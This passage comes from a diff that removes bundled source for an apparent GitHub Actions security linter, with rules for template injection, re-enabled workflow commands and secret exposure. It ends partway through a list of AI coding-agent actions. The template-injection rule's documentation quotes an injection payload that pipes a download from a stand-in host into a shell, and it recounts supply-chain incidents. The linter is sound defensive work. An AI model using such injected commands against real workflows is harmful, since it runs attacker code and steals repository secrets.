-  for (let i = index + 1; i < script.commands.length; i++) {
-    const next = script.commands[i];
-    if (next.inSubstitution !== command.inSubstitution) continue;
-    return next.pipeline === command.pipeline ? next : null;
-  }
-  return null;
-}
-
-// server/src/knowledge/shell/run-scripts.ts
-function scalarOffsetMapper(node, source) {
-  const span = nodeSpan(node);
-  if (!node || !span || !isScalar(node)) return () => span?.start ?? 0;
-  const scalar = node;
-  const value = typeof scalar.value === "string" ? scalar.value : null;
-  const clampToken = (offset) => Math.max(span.start, Math.min(offset, span.end));
-  if (value === null) return () => span.start;
-  if (scalar.type === "BLOCK_LITERAL") {
-    const header = source.indexOf("\n", span.start);
-    if (header < 0) return () => span.start;
-    const lineStarts = [];
-    const valueLines = value.split("\n");
-    let cursor = header + 1;
-    let indent = -1;
-    for (let k = 0; k < valueLines.length; k++) {
-      if (cursor > source.length) break;
-      let lineEnd = source.indexOf("\n", cursor);
-      if (lineEnd < 0) lineEnd = source.length;
-      const line = source.slice(cursor, lineEnd).replace(/\r$/, "");
-      if (indent < 0 && valueLines[k].length > 0) {
-        indent = line.length - valueLines[k].length;
-        if (indent < 0 || line.slice(indent) !== valueLines[k]) return clampToken;
-      }
-      lineStarts.push(cursor);
-      cursor = lineEnd + 1;
-    }
-    const firstIndent = Math.max(indent, 0);
-    const valueIndex = new LineIndex(value);
-    return (offset) => {
-      const line = valueIndex.lineAt(offset);
-      const lineStart = lineStarts[line];
-      if (lineStart === void 0) return span.end;
-      return Math.min(lineStart + firstIndent + (offset - valueIndex.lineStarts[line]), source.length);
-    };
-  }
-  const quoted = scalar.type === "QUOTE_DOUBLE" || scalar.type === "QUOTE_SINGLE";
-  const start = quoted ? span.start + 1 : span.start;
-  if (source.startsWith(value, start)) return (offset) => start + offset;
-  return clampToken;
-}
-function shellOf(step, job, file) {
-  const own = step.shell?.value;
-  if (own) return own;
-  const jobShell = job?.child("defaults").child("run").string("shell")?.value;
-  if (jobShell) return jobShell;
-  return file.workflow?.child("defaults").child("run").string("shell")?.value ?? "";
-}
-var cache = new AttachedCache("run-scripts", attachmentsOf);
-function runScripts(file) {
-  const cached = cache.get(file);
-  if (cached) return cached;
-  const scripts = [];
-  const add = (step, job) => {
-    const entry = step.run;
-    if (!entry || !entry.value || !isScalar(entry.value)) return;
-    const value = entry.value.value;
-    if (typeof value !== "string") return;
-    const scalar = entry.value;
-    let mapper;
-    const map2 = (offset) => (mapper ??= scalarOffsetMapper(scalar, file.text))(offset);
-    scripts.push({
-      entry,
-      step,
-      job,
-      script: parseShell(value),
-      shell: shellOf(step, job, file),
-      toSource: map2,
-      sourceSpan: (span) => {
-        const start = map2(span.start);
-        const end = map2(span.end);
-        return { start, end: Math.max(start, end) };
-      }
-    });
-  };
-  try {
-    if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) add(step, job);
-    if (file.action) for (const step of file.action.steps) add(step, null);
-  } catch {
-  }
-  cache.set(file, scripts);
-  return scripts;
-}
-var byJobCache = new AttachedCache("run-scripts-by-job", attachmentsOf);
-function runScriptsOf(file, job) {
-  let byJob = byJobCache.get(file);
-  if (!byJob) {
-    byJob = /* @__PURE__ */ new Map();
-    for (const script of runScripts(file)) {
-      const list = byJob.get(script.job);
-      if (list) list.push(script);
-      else byJob.set(script.job, [script]);
-    }
-    byJobCache.set(file, byJob);
-  }
-  return byJob.get(job)?.slice() ?? [];
-}
-
-// server/src/knowledge/taint.ts
-var SEVERITY_RANK = { informational: 0, low: 1, medium: 2, high: 3 };
-function stronger(a, b) {
-  if (!a) return b;
-  if (!b) return a;
-  return SEVERITY_RANK[b.severity] > SEVERITY_RANK[a.severity] ? b : a;
-}
-function scopeTriggers(file) {
-  const workflow = file.workflow;
-  if (!workflow) return null;
-  const names = workflow.triggers.map((trigger) => trigger.name);
-  if (names.length === 0 || names.includes("workflow_call")) return null;
-  return names;
-}
-function scopeOf(file, path) {
-  const triggers = scopeTriggers(file);
-  if (file.workflow && path[0] === "jobs" && typeof path[1] === "string") {
-    const job = file.workflow.job(path[1]) ?? null;
-    const step = job && path[2] === "steps" && typeof path[3] === "number" ? job.steps[path[3]] ?? null : null;
-    return { file, job, step, triggers };
-  }
-  if (file.action && path[0] === "runs" && path[1] === "steps" && typeof path[2] === "number") {
-    return { file, job: null, step: file.action.steps[path[2]] ?? null, triggers };
-  }
-  return { file, job: null, step: null, triggers };
-}
-function v(severity, confidence, persona, capability, reason) {
-  return { severity, confidence, persona, capability, reason };
-}
-function triggerList(triggers) {
-  return triggers.map((t) => `\`${t}\``).join(", ");
-}
-function whoFires(trigger) {
-  const firedBy = triggerInfo(trigger)?.firedBy;
-  if (firedBy === void 0) return `whoever fires \`${trigger}\``;
-  const open = firedBy.endsWith(")") ? firedBy.indexOf(" (") : -1;
-  return open === -1 ? firedBy : firedBy.slice(0, open);
-}
-function assessPath(rawPath, scope, depth = 0) {
-  const path = normalizeContextPath(rawPath);
-  const root = path.split(".")[0];
-  if (isInertContext(path)) return null;
-  switch (root) {
-    case "github": {
-      const info = classifyGithubContext(path, scope.triggers);
-      switch (info.capability) {
-        case "arbitrary":
-          if (info.outsiderTriggers.length > 0) {
-            const first = info.outsiderTriggers[0];
-            const via = first === "push" && !triggerInfo("push")?.outsiderCanFire ? "the text of a merged pull request (`push`)" : `${whoFires(first)} (${triggerList(info.outsiderTriggers)})`;
-            return v("high", first === "push" && info.outsiderTriggers.length === 1 ? "medium" : "high", "regular", "arbitrary", `${info.source}, chosen by ${via}`);
-          }
-          if (scope.triggers === null) return v("high", "medium", "regular", "arbitrary", `${info.source}, chosen by whoever causes the event`);
-          return v("medium", "medium", "regular", "arbitrary", `${info.source}`);
-        case "writer":
-          if (path.startsWith("github.event.")) return v("medium", "medium", "regular", "writer", `${info.source}, chosen by people with write access`);
-          return v("low", "medium", "pedantic", "writer", `${info.source}`);
-        case "structured":
-          return v("low", "medium", "pedantic", "structured", `${info.source}: restricted characters, but chosen by someone else`);
-        case "unknown":
-          return v("low", "low", "pedantic", "unknown", info.source);
-        default:
-          return null;
-      }
-    }
-    case "inputs":
-      return assessInput(path, scope);
-    case "env":
-      return depth > 0 ? v("low", "low", "pedantic", "unknown", "an environment variable") : assessEnv(path, scope);
-    case "matrix":
-      return assessMatrix(path, scope);
-    case "steps":
-    case "needs":
-    case "jobs":
-      return /\.outputs(\.|$)/.test(path) || path.split(".").length <= 2 ? v("informational", "low", "pedantic", "unknown", "an output computed at run time; check where its text comes from") : null;
-    case "vars":
-      return v("informational", "low", "pedantic", "writer", "a configuration variable, set by repository admins");
-    case "secrets":
-      return null;
-    default:
-      return v("low", "low", "pedantic", "unknown", `\`${root}\` is not a context this analysis knows`);
-  }
-}
-function assessInput(path, scope) {
-  const name = path.split(".")[1] ?? "";
-  const file = scope.file;
-  if (file.action) {
-    if (!name || name === "*") return v("high", "medium", "regular", "arbitrary", "the action's inputs, chosen by every workflow that uses it");
-    return v("high", "medium", "regular", "arbitrary", `input \`${name}\` of this action, chosen by every workflow that uses it (the Ultralytics compromise fed a branch name through such an input)`);
-  }
-  const workflow = file.workflow;
-  if (!workflow) return null;
-  let verdict2 = null;
-  let declared = false;
-  for (const trigger of ["workflow_dispatch", "workflow_call"]) {
-    const config = workflow.trigger(trigger)?.config;
-    if (!config) continue;
-    const input2 = config.child("inputs").get(name);
-    if (!input2) continue;
-    declared = true;
-    const type = scalarText(asMap(input2.value)?.get("type", true)) ?? "string";
-    if (SAFE_INPUT_TYPES.has(type.toLowerCase())) continue;
-    verdict2 = stronger(
-      verdict2,
-      trigger === "workflow_call" ? v("medium", "medium", "regular", "arbitrary", `\`${type}\` input \`${name}\` of this reusable workflow, chosen by its callers (which may pass pull request or issue text)`) : v("medium", "high", "regular", "writer", `\`${type}\` input \`${name}\`, typed in by whoever dispatches the workflow`)
-    );
-  }
-  if (!declared) return v("low", "low", "pedantic", "unknown", `input \`${name}\` is not declared`);
-  return verdict2;
-}
-function envValue(view, name) {
-  if (!view) return { found: false, node: null };
-  for (const entry of view.entries) if (entry.key.toLowerCase() === name) return { found: true, node: entry.value };
-  return { found: false, node: null };
-}
-function assessEnv(path, scope) {
-  const name = path.split(".")[1] ?? "";
-  const levels = [];
-  if (scope.step) levels.push(scope.step.env);
-  if (scope.job) levels.push(scope.job.env);
-  if (scope.file.workflow) levels.push(scope.file.workflow.env);
-  for (const level of levels) {
-    const { found, node } = envValue(level, name);
-    if (!found) continue;
-    const text = scalarText(node);
-    if (text === null) return asMap(node) || asSeq(node) ? v("low", "low", "pedantic", "unknown", `\`env.${name}\``) : null;
-    if (!text.includes("${{")) return null;
-    let verdict2 = null;
-    for (const occurrence of findExpressions(text)) {
-      const ast = occurrence.parsed.ast;
-      if (!ast) continue;
-      for (const leaf of valueLeaves(ast)) {
-        if (leaf.type === "literal") continue;
-        const inner = contextPath(leaf, { computedIndexAsWildcard: true });
-        const found2 = inner ? assessPath(inner, scope, 1) : null;
-        if (found2) verdict2 = stronger(verdict2, { ...found2, reason: `\`env.${name}\`, set from \`${inner}\`: ${found2.reason}` });
-      }
-    }
-    return verdict2;
-  }
-  return v("low", "low", "pedantic", "unknown", `\`env.${name}\` is not set in this file (it may come from GITHUB_ENV)`);
-}
-function assessMatrix(path, scope) {
-  const key = path.split(".")[1] ?? "";
-  const job = scope.job;
-  if (!job) return v("low", "low", "pedantic", "unknown", "a matrix value");
-  let byKey = MATRIX_SOURCES.get(job);
-  if (!byKey) MATRIX_SOURCES.set(job, byKey = /* @__PURE__ */ new Map());
-  let source = byKey.get(key);
-  if (source === void 0) byKey.set(key, source = matrixValueSource(job, key, scope.file.doc));
-  return source === null ? null : v("medium", "low", "regular", "unknown", `matrix value \`${key}\`, ${source}`);
-}
-var MATRIX_SOURCES = new AttachedCache("matrix-sources", attachmentsOf);
-function matrixValueSource(job, key, doc) {
-  const node = job.strategy.get("matrix")?.value ?? null;
-  const text = scalarText(node);
-  if (text !== null) return text.includes("${{") ? "from a matrix computed at run time" : null;
-  const map2 = asMap(node);
-  if (!map2) return null;
-  let expression = false;
-  const visit3 = (value) => {
-    const s = scalarText(value);
-    if (s !== null && s.includes("${{")) expression = true;
-    for (const item of seqItems(asSeq(value), doc)) visit3(item);
-    for (const entry of mapEntries(asMap(value), doc)) visit3(entry.value);
-  };
-  for (const entry of mapEntries(map2, doc)) {
-    if (entry.key === key || key === "" || key === "*") visit3(entry.value);
-    if (entry.key === "include" || entry.key === "exclude") {
-      for (const item of seqItems(asSeq(entry.value), doc)) {
-        const s2 = scalarText(item);
-        if (s2 !== null && s2.includes("${{")) expression = true;
-        for (const inner of mapEntries(asMap(item), doc)) if (inner.key === key) visit3(inner.value);
-      }
-      const s = scalarText(entry.value);
-      if (s !== null && s.includes("${{")) expression = true;
-    }
-  }
-  return expression ? "set from an expression" : null;
-}
-function assessSite(site, scope) {
-  const occurrence = site.occurrence;
-  const ast = occurrence.terminated ? occurrence.parsed.ast : null;
-  if (!ast) return [];
-  const verdicts = [];
-  for (const leaf of valueLeaves(ast)) {
-    if (leaf.type === "literal") continue;
-    const path = contextPath(leaf, { computedIndexAsWildcard: true });
-    if (!path) continue;
-    const verdict2 = assessPath(path, scope);
-    if (!verdict2) continue;
-    verdicts.push({ start: occurrence.innerStart + leaf.start, end: occurrence.innerStart + leaf.end, path, verdict: verdict2 });
-  }
-  return verdicts;
-}
-function singleContext(site) {
-  let ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
-  while (ast && ast.type === "group") ast = ast.expr;
-  if (!ast || ast.type !== "property" && ast.type !== "index" && ast.type !== "context") return null;
-  const path = contextPath(ast);
-  return path ? { node: ast, path } : null;
-}
-
-// server/src/fixes/verify.ts
-var OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
-function errorCodes(text) {
-  try {
-    return parseDocument(text, OPTIONS).errors.map((error) => error.code);
-  } catch {
-    return null;
-  }
-}
-function editsKeepYamlValid(text, region, edits) {
-  if (edits.length === 0) return true;
-  let start = Math.min(region.start, ...edits.map((edit) => edit.span.start));
-  let end = Math.max(region.end, ...edits.map((edit) => edit.span.end));
-  start = text.lastIndexOf("\n", start - 1) + 1;
-  if (end === 0 || text[end - 1] !== "\n") {
-    const lineEnd = text.indexOf("\n", end);
-    end = lineEnd === -1 ? text.length : lineEnd + 1;
-  }
-  const fragment = text.slice(start, end);
-  const shifted = edits.map((edit) => ({ span: { start: edit.span.start - start, end: edit.span.end - start }, newText: edit.newText }));
-  let edited;
-  try {
-    edited = applyEdits(fragment, shifted);
-  } catch {
-    return false;
-  }
-  const before = errorCodes(fragment);
-  const after = errorCodes(edited);
-  if (!before || !after) return false;
-  if (after.length === 0) return true;
-  return after.length <= before.length && after.every((code) => before.includes(code));
-}
-
-// server/src/rules/template-injection.ts
-function stepShell(scope, step) {
-  const own = step.shell?.value ?? scope.job?.child("defaults").child("run").string("shell")?.value ?? scope.file.workflow?.child("defaults").child("run").string("shell")?.value;
-  if (own) return own.trim().split(/\s+/)[0].toLowerCase();
-  const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? "";
-  return /windows/i.test(runsOn) ? "pwsh" : "bash";
-}
-function runLanguage(scope, step) {
-  const shell = stepShell(scope, step);
-  return shell === "pwsh" || shell === "powershell" ? "pwsh" : shell === "cmd" ? "cmd" : shell === "python" ? "python" : "bash";
-}
-function sinkOf(file, site, scope) {
-  const step = scope.step;
-  if (!step) return null;
-  const path = site.path;
-  const base2 = file.workflow ? 4 : 3;
-  if (path.length === base2 + 1 && path[base2] === "run") {
-    const entry = step.run;
-    if (!entry) return null;
-    return { kind: "run", language: null, label: "this `run:` script", entry };
-  }
-  if (path.length === base2 + 2 && path[base2] === "with" && typeof path[base2 + 1] === "string") {
-    const uses = scalarText(step.uses?.value ?? null);
-    if (!uses) return null;
-    const reference = parseUses(uses);
-    const input2 = String(path[base2 + 1]);
-    const entry = step.with.get(input2);
-    if (!entry) return null;
-    if (reference.kind === "docker") return ["entrypoint", "args"].includes(input2.toLowerCase()) ? { kind: "input", language: "other", label: `\`${input2}\` of a container step`, entry } : null;
-    if (reference.kind !== "remote") return null;
-    const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
-    if (!sink || !sink.inputs.includes(input2.toLowerCase())) return null;
-    return { kind: "input", language: sink.language, label: `\`${input2}\` of ${reference.repository}, which runs it as code`, entry };
-  }
-  return null;
-}
-var templateInjection = {
-  id: "template-injection",
-  title: "Untrusted text expanded into code",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.",
-    why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
-    fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
-  },
-  check({ file, report }) {
-    const base2 = file.workflow ? 4 : 3;
-    for (const site of file.expressions) {
-      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
-      const path = site.path;
-      if (!(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with")) continue;
-      const scope = scopeOf(file, path);
-      const sink = sinkOf(file, site, scope);
-      if (!sink) continue;
-      const leaves = assessSite(site, scope);
-      if (leaves.length === 0) continue;
-      const single = singleContext(site);
-      for (const leaf of leaves) {
-        const { verdict: verdict2 } = leaf;
-        const step = scope.step;
-        const canMove = single !== null && leaves.length === 1 && step !== null && step !== void 0;
-        const fixes = () => {
-          const fix = canMove ? moveToEnv(file, site, sink, sink.language ?? runLanguage(scope, step), step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
-          return fix ? [fix] : [];
-        };
-        report({
-          span: { start: leaf.start, end: leaf.end },
-          message: `\`${leaf.path}\` is expanded into ${sink.label}: ${verdict2.reason}. Pass it through \`env:\` instead`,
-          severity: verdict2.severity,
-          confidence: verdict2.confidence,
-          persona: verdict2.persona,
-          fixes
-        });
-      }
-    }
-  }
-};
-function envNameFor(path) {
-  const trimmed = path.replace(/^github\.event\./i, "").replace(/^github\./i, "");
-  const name = trimmed.replace(/\*/g, "ALL").replace(/[^A-Za-z0-9]+/g, "_").replace(/^_+|_+$/g, "").toUpperCase();
-  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
-}
-function quoteState(line) {
-  let state = "none";
-  for (let i = 0; i < line.length; i++) {
-    const c = line[i];
-    if (c === "\\" && state !== "single") {
-      i++;
-      continue;
-    }
-    if (state === "none") {
-      if (c === "'") state = "single";
-      else if (c === '"') state = "double";
-      else if (c === "`") state = "backtick";
-    } else if (state === "single" && c === "'" || state === "double" && c === '"' || state === "backtick" && c === "`") {
-      state = "none";
-    }
-  }
-  return state;
-}
-function moveToEnv(file, site, sink, language, step, path) {
-  if (!path) return null;
-  const text = file.text;
-  const occurrence = site.occurrence;
-  const scalarType = site.scalar.type;
-  if (scalarType !== "BLOCK_LITERAL" && scalarType !== "PLAIN" && scalarType !== "QUOTE_SINGLE") return null;
-  if (asMap(step.node)?.flow) return null;
-  if (sink.kind === "input" && scalarType === "PLAIN" && asMap(step.get("with")?.value)?.flow) return null;
-  const scalarRange = site.scalar.range;
-  if (!scalarRange) return null;
-  const expressionText = envValueExpression(text.slice(occurrence.start, occurrence.end));
-  if (!expressionText) return null;
-  const key = normalizeContextPath(path);
-  const runnerVar = RUNNER_ENV[key] ?? null;
-  const name = runnerVar ?? uniqueName(step, envNameFor(path), expressionText);
-  if (!name) return null;
-  const lineStart = file.lines.lineStarts[file.lines.lineAt(occurrence.start)];
-  const scalarStart = scalarRange[0] + (scalarType === "QUOTE_SINGLE" ? 1 : 0);
-  const before = text.slice(Math.max(lineStart, scalarStart), occurrence.start);
-  const state = quoteState(before.replace(/^\s*run:\s*/, ""));
-  let replacement = null;
-  let span = { start: occurrence.start, end: occurrence.end };
-  switch (language) {
-    case "bash": {
-      const script = scalarText(site.scalar) ?? "";
-      const inQuotedHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)));
-      if (inQuotedHeredoc) return null;
-      const inHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)));
-      if (scalarType === "QUOTE_SINGLE" && state !== "none") return null;
-      replacement = inHeredoc || state === "double" ? `\${${name}}` : state === "single" ? `'"\${${name}}"'` : `"\${${name}}"`;
-      break;
-    }
-    case "pwsh":
-      if (state === "single") return null;
-      replacement = `$env:${name}`;
-      break;
-    case "cmd":
-      replacement = `%${name}%`;
-      break;
-    case "javascript": {
-      const open = text[occurrence.start - 1];
-      const close = text[occurrence.end];
-      if ((open === "'" || open === '"' || open === "`") && open === close && state !== "none") {
-        replacement = `process.env.${name}`;
-        span = { start: occurrence.start - 1, end: occurrence.end + 1 };
-      } else if (state === "backtick") replacement = `\${process.env.${name}}`;
-      else if (state === "single" || state === "double") {
-        const q = state === "single" ? "'" : '"';
-        replacement = `${q} + process.env.${name} + ${q}`;
-      } else replacement = `process.env.${name}`;
-      break;
-    }
-    default:
-      return null;
-  }
-  if (scalarType === "QUOTE_SINGLE" && replacement.includes("'")) return null;
-  let edit = { span, newText: replacement };
-  if (scalarType === "PLAIN") {
-    const [start, end] = scalarRange;
-    const rewritten = text.slice(start, span.start) + replacement + text.slice(span.end, end);
-    if (!plainScalarReadsAsWritten(rewritten)) edit = { span: { start, end }, newText: `'${rewritten.replace(/'/g, "''")}'` };
-  }
-  const edits = [edit];
-  if (!runnerVar && !hasEnvEntry(step, name)) {
-    const insert = envInsertion(file, step, name, expressionText);
-    if (!insert) return null;
-    edits.push(insert);
-  }
-  const stepRange = step.node?.range;
-  if (!stepRange || !editsKeepYamlValid(text, { start: stepRange[0], end: stepRange[1] }, edits)) return null;
-  return {
-    title: runnerVar ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\`` : `Move \`${path}\` into \`env: ${name}\``,
-    isPreferred: sink.kind === "run",
-    safety: "unsafe",
-    edits
-  };
-}
-function envValueExpression(source) {
-  if (!/[\r\n]/.test(source)) return source;
-  if (/['"]/.test(source)) return null;
-  return source.replace(/\s+/g, " ");
-}
-function plainScalarReadsAsWritten(source) {
-  if (/^[-?:,[\]{}#&*!|>'"%@`]/.test(source)) return false;
-  return !/:(\s|$)|\s#/.test(source);
-}
-function hasEnvEntry(step, name) {
-  return step.env.entries.some((entry) => entry.key === name);
-}
-function uniqueName(step, base2, expressionText) {
-  const entries = step.env.entries;
-  for (let i = 1; i < 50; i++) {
-    const name = i === 1 ? base2 : `${base2}_${i}`;
-    const existing = entries.find((entry) => entry.key === name);
-    if (!existing) return name;
-    if ((scalarText(existing.value) ?? "").trim() === expressionText) return name;
-  }
-  return null;
-}
-function envInsertion(file, step, name, expressionText) {
-  const lines = file.lines;
-  const eol = lines.eol;
-  const value = expressionText.includes("'") || expressionText.includes("#") ? `"${expressionText.replace(/\\/g, "\\\\").replace(/"/g, '\\"')}"` : expressionText;
-  const lineAfter = (offset) => {
-    const line = lines.lineAt(Math.max(0, offset - 1));
-    return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
-  };
-  const envEntry = step.get("env");
-  if (envEntry) {
-    const map2 = asMap(envEntry.value);
-    if (!map2 || map2.flow || step.env.entries.length === 0) return null;
-    if (isAlias(envEntry.pair.value) || map2.anchor) return null;
-    const entries2 = step.env.entries;
-    const first2 = entries2[0];
-    const last2 = entries2[entries2.length - 1];
-    const column2 = first2.keySpan.start - lines.lineStarts[lines.lineAt(first2.keySpan.start)];
-    const at2 = lineAfter(Math.max(last2.valueSpan.end, last2.keySpan.end));
-    const textLine = `${" ".repeat(column2)}${name}: ${value}`;
-    if (at2 === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith("\n") ? "" : eol}${textLine}${eol}` };
-    return { span: { start: at2, end: at2 }, newText: `${textLine}${eol}` };
-  }
-  const entries = step.entries;
-  if (entries.length === 0) return null;
-  const first = entries[0];
-  const last = entries.reduce((a, b) => Math.max(b.valueSpan.end, b.keySpan.end) > Math.max(a.valueSpan.end, a.keySpan.end) ? b : a);
-  const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
-  const pad = " ".repeat(column);
-  const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
-  const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
-  if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith("\n") ? "" : eol}${block}` };
-  return { span: { start: at, end: at }, newText: block };
-}
-
-// server/src/rules/insecure-commands.ts
-var NAME = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
-function envMaps(file) {
-  const maps = [];
-  const workflow = file.workflow;
-  if (workflow) {
-    maps.push(workflow.env);
-    for (const job of workflow.jobs) {
-      maps.push(job.env);
-      for (const step of job.steps) maps.push(step.env);
-    }
-  }
-  if (file.action) for (const step of file.action.steps) maps.push(step.env);
-  return maps;
-}
-function removeEntry(file, env, index) {
-  const lines = file.lines;
-  const entry = env.entries[index];
-  if (env.map?.flow) return null;
-  const startLine = lines.lineAt(entry.keySpan.start);
-  if (lines.lineText(startLine).slice(0, entry.keySpan.start - lines.lineStarts[startLine]).trim() !== "") return null;
-  const endLine = lines.lineAt(Math.max(entry.keySpan.end, entry.valueSpan.end - 1));
-  const end = endLine + 1 < lines.lineCount ? lines.lineStarts[endLine + 1] : file.text.length;
-  return { span: { start: lines.lineStarts[startLine], end }, newText: "" };
-}
-var insecureCommands = {
-  id: "insecure-commands",
-  title: "Deprecated workflow commands re-enabled",
-  kinds: ["workflow", "action"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`ACTIONS_ALLOW_UNSECURE_COMMANDS` turns the `::set-env::` and `::add-path::` log commands back on, so anything a step prints can set environment variables of later steps.",
-    why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
-    fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
-  },
-  check({ file, report }) {
-    for (const env of envMaps(file)) {
-      env.entries.forEach((entry, index) => {
-        if (entry.key.toUpperCase() !== NAME) return;
-        const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
-        if (value === "false" || value === "0" || value === "") return;
-        const edit = removeEntry(file, env, index);
-        report({
-          span: entry.keySpan,
-          message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
-          confidence: value.includes("${{") ? "medium" : "high",
-          fixes: edit ? [{ title: `Remove \`${NAME}\``, isPreferred: true, safety: "unsafe", edits: [edit] }] : []
-        });
-      });
-    }
-  }
-};
-
-// server/src/rules/overprovisioned-secrets.ts
-var overprovisionedSecrets = {
-  id: "overprovisioned-secrets",
-  title: "Every secret of the repository handed to one place",
-  kinds: ["workflow", "action"],
-  severity: "medium",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`toJSON(secrets)` or `secrets[<computed>]` makes the runner load every secret of the repository into the job, not only the ones it names.",
-    why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
-    fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
-  },
-  check({ file, report }) {
-    for (const site of file.expressions) {
-      const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
-      if (!ast) continue;
-      const base2 = site.occurrence.innerStart;
-      walkExpression(ast, (node) => {
-        if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
-          report({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
-          return false;
-        }
-        if (node.type === "index" && contextPath(node.object) === "secrets") {
-          const index = node.index;
-          if (!(index.type === "literal" && index.kind === "string")) {
-            report({ span: { start: base2 + node.start, end: base2 + node.end }, message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs" });
-          }
-        }
-        return true;
-      });
-    }
-  }
-};
-
-// server/src/rules/unredacted-secrets.ts
-var unredactedSecrets = {
-  id: "unredacted-secrets",
-  title: "Secret parsed with fromJSON escapes log masking",
-  kinds: ["workflow", "action"],
-  severity: "medium",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`fromJSON(secrets.X)` turns a secret into structured values whose parts the runner does not know as secrets, so they are not masked in logs.",
-    why: "The runner masks the exact text of each secret. A field taken out of a JSON secret (`fromJSON(secrets.CREDS).password`) is a different string, printed in clear by any `echo`, `set -x` or error message; public build logs then leak it.",
-    fix: "Store each value as its own secret, or register the parts with `::add-mask::` before anything can print them."
-  },
-  check({ file, report }) {
-    for (const site of file.expressions) {
-      const ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
-      if (!ast) continue;
-      const base2 = site.occurrence.innerStart;
-      walkExpression(ast, (node) => {
-        if (node.type !== "call" || functionKey(node) !== "fromjson" || node.args.length !== 1) return true;
-        const path = contextPath(node.args[0], { computedIndexAsWildcard: true });
-        if (path && path.startsWith("secrets.")) {
-          report({ span: { start: base2 + node.start, end: base2 + node.end }, message: `\`fromJSON(${path})\` yields values the runner does not mask in logs: store each value as its own secret` });
-        }
-        return true;
-      });
-    }
-  }
-};
-
-// server/src/knowledge/agent-actions.ts
-var SHELL_AGENT = "it is a coding agent with a shell";
-var AGENT_ACTIONS = [
-  {
-    action: "anthropics/claude-code-action",
-    promptInputs: ["prompt", "direct_prompt", "override_prompt", "custom_instructions", "claude_args", "system_prompt", "append_system_prompt"],
-    openAccessInputs: ["allowed_non_write_users", "allowed_bots"],
-    toolInputs: ["allowed_tools", "claude_args", "settings"],
-    gated: true,
-    tools: "limited",
-    toolsWhy: "by default it edits files and runs git commands",
-    tagMode: true,
-    sources: [
-      { file: "action.yml", commit: "103450edd930c700b0f2776f5466ca0d890ba3ee" },
-      { file: "action.yml", commit: "008284398f9706427970c06a406d9ebd6a1cecfa" },
-      { file: "src/entrypoints/run.ts", commit: "01fbf36bba6bc8685f4adae2f698beb218ec198c" },
-      { file: "src/github/validation/permissions.ts", commit: "0085208689431bbb354d99a595ef3687a8579f08" },
-      { file: "src/modes/detector.ts", commit: "0478993f8ca1d5fc2e5b669bebb55316bf1ec9c7" },
-      { file: "src/modes/tag/index.ts", commit: "09163babdc85cc88fb4a25bf78fd1b556433a68c" },
-      { file: "src/modes/agent/index.ts", commit: "0edbe188537bd908a0a8a9fc46c000f9312e0136" }
-    ]
-  },
-  {
-    action: "anthropics/claude-code-base-action",
-    promptInputs: ["prompt", "system_prompt", "append_system_prompt"],
-    openAccessInputs: [],
-    toolInputs: ["allowed_tools", "claude_args", "settings"],
-    gated: false,
-    tools: "none",
-    toolsWhy: "by default it allows no edit or shell tool, so it only reads files",
-    tagMode: false,
-    sources: [
-      { file: "action.yml", commit: "005f1e447474821b1349e3a009dcefe91df03f98" },
